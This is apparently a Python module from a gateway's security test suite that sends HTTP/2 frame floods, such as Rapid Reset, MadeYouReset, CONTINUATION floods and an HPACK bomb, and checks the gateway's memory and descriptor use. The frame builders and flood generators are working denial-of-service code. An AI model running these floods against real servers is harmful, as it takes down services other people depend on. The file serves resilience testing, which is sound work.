"""Floods of HTTP/2 frames. Each sends 20,000 frames and more for four seconds, or what goes in ten.

A flood is a function that yields pieces of bytes, each with its number of frames. When the gateway closes
the connection, the flood goes on with a new one: that costs the attacker a handshake each time.
"""
import struct
import time

from hyperframe import frame as frames

from attack import Attack
from http2 import (
    INITIAL_WINDOW_SIZE, MOST_WINDOW, Connection, block, headers_frame, raw_frame, settings_frame, window_update)
from watch import MIB

FRAMES, LEAST_SECONDS, MOST_SECONDS = 20_000, 4, 10
STREAMS = 100        # what the gateway allows on one connection
PIECE = 50           # units that are sent at once
LARGE = "/public/bytes/1000000"
SLOW = "/public/after/2000"
CANCEL = 8
# Of an attacker's connection, or the good caller's two: with the one before, and what goes to their service.
OTHER_DESCRIPTORS = 4
# What docs/security.md says of a connection with 100 large responses that nobody takes, and a little.
HOSTILE_CONNECTION = 64 * MIB


def run(world, report, match=""):
    for flood in FLOODS:
        if match in flood.name:
            report(flood.run(world))


class Flood:
    def __init__(self, name, pieces, settings=(), is_reading=True, connections=1, most_memory=128 * MIB):
        self.name, self.pieces, self.settings, self.is_reading = name, pieces, settings, is_reading
        self.connections, self.most_memory = connections, most_memory

    def run(self, world):
        under = Attack(world, "frames", self.name, most_memory=self.most_memory)
        with under:
            sent = Sent()
            try:
                while not sent.is_enough():
                    self._once(world, sent)
            finally:
                sent.close()
            counts = world.counts(world.attacked)
            # The service counts those too whose connection was closed before it was accepted.
            under.notes += sent.notes() + [
                f"{counts['requests']:,} requests reached the service, which had at most {counts['most_at_once']} at once"]
        if "descriptors_most" in under.result.figures:
            self._judge_descriptors(under.result)
        return under.result

    def _judge_descriptors(self, result):
        """Whether the gateway had no more under way at the service than streams: each has a connection of its own."""
        most = result.figures["descriptors_most"] - result.figures["descriptors"]
        # Those of a connection that has just ended may be on their way out.
        bound = STREAMS * self.connections + STREAMS + OTHER_DESCRIPTORS * (self.connections + 1)
        if most > bound:
            result.faults.append(f"the gateway had {most} descriptors more than before, more than {bound}")

    def _once(self, world, sent):
        """One set of connections, until one is closed or there is nothing more to say."""
        live = [Connection(world, self.settings, self.is_reading) for _ in range(self.connections)]
        sent.open += live
        pieces = [iter(self.pieces()) for _ in live]
        while live and not sent.is_enough():
            for connection, coming in list(zip(live, pieces)):
                data, count = next(coming, (None, 0))
                if data is None:
                    connection.wait(0.1)
                elif connection.send(data, sent.end):
                    sent.frames += count
                if connection.is_ended():
                    index = live.index(connection)
                    del live[index], pieces[index]
                    sent.closed.append(connection.goaway or "closed")
                    sent.forget(connection)
        # Those that were not closed by now say nothing about it.
        for connection in live:
            sent.survived += 1
            sent.forget(connection)


class Sent:
    """What a flood did, and what came of it."""

    def __init__(self):
        self.frames, self.survived, self.closed, self.open = 0, 0, [], []
        self.began = time.monotonic()
        self.end = self.began + MOST_SECONDS

    def is_enough(self):
        now = time.monotonic()
        return now > self.end or (self.frames >= FRAMES and now > self.began + LEAST_SECONDS)

    def forget(self, connection):
        connection.close()
        self.open.remove(connection)

    def close(self):
        for connection in list(self.open):
            self.forget(connection)

    def notes(self):
        counted = {reason: self.closed.count(reason) for reason in sorted(set(self.closed))}
        ends = [f"{number} × {reason}" for reason, number in counted.items()]
        if self.survived:
            ends.append(f"{self.survived} not closed")
        return [f"{self.frames:,} frames on {len(self.closed) + self.survived} connections: {', '.join(ends)}"]


# ---------------------------------------------------------------- what is sent
def streams():
    return range(1, 1 << 31, 2)


def in_pieces(units):
    """(bytes, frames) of single units → larger ones."""
    data, count, held = [], 0, 0
    for unit, number in units:
        data.append(unit)
        count, held = count + number, held + 1
        if held == PIECE:
            yield b"".join(data), count
            data, count, held = [], 0, 0
    if data:
        yield b"".join(data), count


def again(unit, number=1):
    """The same unit, for ever."""
    piece = unit * PIECE
    while True:
        yield piece, number * PIECE


def on_streams(unit, number):
    """`unit(stream)` for one stream after another."""
    return lambda: in_pieces((unit(stream), number) for stream in streams())


def requests(path, count=STREAMS):
    head = block(path)
    return b"".join(headers_frame(stream, head) for stream in range(1, 2 * count, 2)), count


def after_requests(path, rest):
    """Opens as many streams as there may be, then sends what `rest` yields."""
    def pieces():
        yield requests(path)
        yield from rest()
    return pieces


def reset(stream):
    return frames.RstStreamFrame(stream, error_code=CANCEL).serialize()


def rapid_reset(path):
    head = block(path)
    return on_streams(lambda stream: headers_frame(stream, head) + reset(stream), 2)


def late_reset():
    """Each request has time to get to the service before it is reset."""
    head = block(SLOW)
    for stream in streams():
        yield headers_frame(stream, head), 1
        time.sleep(0.0005)
        yield reset(stream), 1


def made_you_reset(mistake):
    """A good request, and a mistake for which the gateway has to reset the stream (CVE-2025-8671)."""
    head = block(SLOW)
    return on_streams(lambda stream: headers_frame(stream, head) + mistake(stream), 2)


def unfinished_head(fragment):
    """A head that goes on and on (CVE-2024-27316)."""
    def pieces():
        yield headers_frame(1, block("/public/x"), flags=("END_STREAM",)), 1
        yield from again(frames.ContinuationFrame(1, fragment).serialize())
    return pieces


def body_of(unit):
    """A request whose body is made of these frames."""
    def pieces():
        yield headers_frame(1, block("/public/x", "POST"), flags=("END_HEADERS",)), 1
        yield from again(unit)
    return pieces


def literal(name, value):
    """A field that the receiver has to keep in its table (RFC 7541 §6.2.1); lengths below 16 KiB."""
    def text(content):
        if len(content) < 127:
            return bytes([len(content)]) + content
        rest = len(content) - 127
        return bytes([127, rest & 127 | 128, rest >> 7]) + content
    return b"\x40" + text(name) + text(value)


def hpack_bomb():
    """One field of 4,000 bytes, then heads that name it 15,000 times, a byte each: 60 MB from 15 KB."""
    good = block("/public/x")
    yield headers_frame(1, good + literal(b"x", b"y" * 4_000)), 1
    bomb = good + b"\xbe" * 15_000
    for stream in range(3, 1 << 31, 2):
        yield headers_frame(stream, bomb), 1


def empty_fields():
    """Fields without name and value (CVE-2019-9516)."""
    head = block("/public/x") + b"\x00\x00\x00" * 4_000
    return in_pieces((headers_frame(stream, head), 1) for stream in streams())


def toggled_window():
    """Each change of the initial window touches every open stream."""
    units = settings_frame({INITIAL_WINDOW_SIZE: 1}) + settings_frame({INITIAL_WINDOW_SIZE: 0})
    return again(units, 2)


def drip():
    """Each stream may send a byte more, one after another (CVE-2019-9511)."""
    unit = b"".join(window_update(stream, 1) for stream in range(1, 2 * STREAMS, 2))
    while True:
        yield unit, STREAMS


def wide_window():
    """A window as wide as can be, and nothing is read (CVE-2019-9517)."""
    yield window_update(0, MOST_WINDOW - 65_535), 1
    yield requests(LARGE)


def priority(stream, dependency, weight=16):
    return raw_frame(2, 0, stream, struct.pack(">IB", dependency, weight))


PING = frames.PingFrame(0, b"abcdefgh").serialize()
ZERO = ((INITIAL_WINDOW_SIZE, 0),)
FLOODS = (
    Flood("rapid reset (CVE-2023-44487)", rapid_reset(SLOW)),
    Flood("rapid reset, ten connections (CVE-2023-44487)", rapid_reset(SLOW), connections=10),
    Flood("rapid reset, half a millisecond later (CVE-2023-44487)", late_reset),
    Flood("MadeYouReset: window of a stream widened by 0 (CVE-2025-8671)",
          made_you_reset(lambda stream: window_update(stream, 0))),
    Flood("MadeYouReset: window of a stream overflows (CVE-2025-8671)",
          made_you_reset(lambda stream: window_update(stream, MOST_WINDOW))),
    Flood("MadeYouReset: data behind the end (CVE-2025-8671)",
          made_you_reset(lambda stream: frames.DataFrame(stream, b"x").serialize())),
    Flood("MadeYouReset: head behind the end (CVE-2025-8671)",
          made_you_reset(lambda stream: headers_frame(stream, block(SLOW)))),
    Flood("MadeYouReset: priority of a wrong length (CVE-2025-8671)",
          made_you_reset(lambda stream: raw_frame(2, 0, stream, b"\0\0\0\0"))),
    Flood("MadeYouReset: stream that depends on itself (CVE-2025-8671)",
          made_you_reset(lambda stream: priority(stream, stream))),
    Flood("CONTINUATION without end, 16 KiB each (CVE-2024-27316)", unfinished_head(
        literal(b"x", b"y" * 16_300))),
    Flood("CONTINUATION without end, empty (CVE-2024-27316)", unfinished_head(b"")),
    Flood("SETTINGS (CVE-2019-9515)", lambda: again(settings_frame({INITIAL_WINDOW_SIZE: 65_535}))),
    Flood("SETTINGS, answers not read (CVE-2019-9515)",
          lambda: again(settings_frame({INITIAL_WINDOW_SIZE: 65_535})), is_reading=False),
    Flood("PING (CVE-2019-9512)", lambda: again(PING)),
    Flood("PING, answers not read (CVE-2019-9512)", lambda: again(PING), is_reading=False),
    Flood("empty DATA (CVE-2019-9518)", body_of(frames.DataFrame(1, b"").serialize())),
    Flood("DATA of padding (CVE-2019-9518)", body_of(raw_frame(0, 8, 1, b"\xff" + b"\0" * 255))),
    Flood("PRIORITY (CVE-2019-9513)", on_streams(lambda stream: priority(stream, 0), 1)),
    Flood("unknown frames", lambda: again(raw_frame(0xbb, 0, 0, b"x" * 100))),
    Flood("HPACK bomb (CVE-2016-6581)", hpack_bomb),
    Flood("fields without name and value (CVE-2019-9516)", empty_fields),
    Flood("window of 0 on 100 streams", after_requests(LARGE, lambda: ()), settings=ZERO,
          most_memory=HOSTILE_CONNECTION),
    Flood("window of 0 on 100 streams, four connections", after_requests(LARGE, lambda: ()), settings=ZERO,
          connections=4, most_memory=4 * HOSTILE_CONNECTION),
    Flood("windows widened byte by byte (CVE-2019-9511)", after_requests(LARGE, drip), settings=ZERO,
          most_memory=HOSTILE_CONNECTION),
    Flood("initial window changed with 100 streams open", after_requests(LARGE, toggled_window), settings=ZERO,
          most_memory=HOSTILE_CONNECTION),
    Flood("wide window, nothing read (CVE-2019-9517)", wide_window, settings=((INITIAL_WINDOW_SIZE, MOST_WINDOW),),
          is_reading=False, most_memory=HOSTILE_CONNECTION),
)
